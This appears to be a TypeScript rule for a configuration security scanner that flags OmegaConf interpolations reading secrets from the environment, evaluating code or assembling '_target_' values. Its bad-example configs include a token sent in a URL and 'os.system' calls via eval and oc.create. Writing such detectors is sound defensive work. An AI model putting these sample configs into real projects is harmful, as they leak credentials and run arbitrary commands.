import { documentRule } from './document-rule.ts';
import { DISCLOSURE } from './references.ts';

const SECRET =
  /(?:^|_)(?:TOKENS?|SECRETS?|PASSW(?:OR)?DS?|PASSPHRASE|CREDENTIALS?|(?:API|ACCESS|PRIVATE|SECRET|SIGNING|ENCRYPTION)_?KEY(?:_ID)?|AUTH)(?:_|$)/i;
const SECRET_SETTING = /key|token|secret|passw|credential|auth/i;
const ENVIRONMENT = /\$\{\s{0,9}(?:oc\.)?env\s{0,9}:\s{0,9}["']?([A-Za-z_]\w{0,99})/g;
const EVALUATION =
  /\$\{\s{0,9}(?:eval|python|exec|cmd|shell)\s{0,9}:[^}]*(?:__|\bos\.|subprocess|import|open\(|exec\(|eval\()/;

/** A map put together by a resolver, which no reader of the file sees as one. */
const CREATION = /\$\{\s{0,9}oc\.(?:create|decode)\s{0,9}:[^]*_target_/;

export const configInterpolation = documentRule<{ found: string; expression: string }>()({
  id: 'config-interpolation',
  title: 'Configuration reads the environment or computes what it calls',
  severity: 'medium',
  formats: ['yaml', 'json', 'tar'],
  references: [{ kind: 'CWE', id: 'CWE-200' }, { kind: 'CWE', id: 'CWE-470' }, ...DISCLOSURE],
  why: 'OmegaConf resolves `${oc.env:NAME}` when the value is read, so a configuration can pull secrets of the machine into values that are logged, uploaded or sent; and a `_target_` that is put together by interpolation hides what it names from everyone who reads the file.',
  fix: 'Write targets out in full, and give secrets to the program that needs them rather than to the configuration.',
  examples: {
    bad: [
      { name: 'config.yaml', content: 'logger:\n  url: "https://example.com/?t=${oc.env:HF_TOKEN}"\n' },
      { name: 'config.yaml', content: 'm: os\nmodel:\n  _target_: ${m}.system\n' },
      { name: 'config.yaml', content: 'x: "${oc.create:{_target_: os.system}}"\n' },
      { name: 'config.yaml', content: 'x: ${eval:\'__import__("os").system("id")\'}\n' },
    ],
    good: [
      { name: 'config.yaml', content: 'dim: ${model.d_model}\ncache: ${oc.env:HOME}/cache\nhalf: ${eval:${dim}/2}\n' },
      { name: 'compose.yaml', content: 'image: ${IMAGE:-python}\n' },
    ],
  },
  message: ({ found, expression }) => `${found}: ${expression}`,
  check(index, report) {
    for (const place of index.expressions) {
      const text = place.text ?? '';
      const expression = text.slice(0, 200);
      if ((place.step === '_target_' || place.step === 'class_path') && text.includes('${')) {
        report(place, { found: 'what is called is put together by interpolation', expression }, 'high');
      } else if (CREATION.test(text.slice(0, 10_000))) {
        report(place, { found: 'an interpolation writes what is instantiated', expression }, 'critical');
      } else if (EVALUATION.test(text.slice(0, 10_000))) {
        report(place, { found: 'an interpolation evaluates code', expression }, 'high');
      } else {
        const secret = [...text.matchAll(ENVIRONMENT)].find((match) => SECRET.test(match[1] ?? ''));
        if (secret === undefined) continue;
        // A setting that is a secret itself is what the environment is for; elsewhere the secret goes where it should not.
        const severity = SECRET_SETTING.test(String(place.step)) ? 'low' : 'medium';
        report(place, { found: 'reads a secret from the environment', expression }, severity);
      }
    }
  },
});
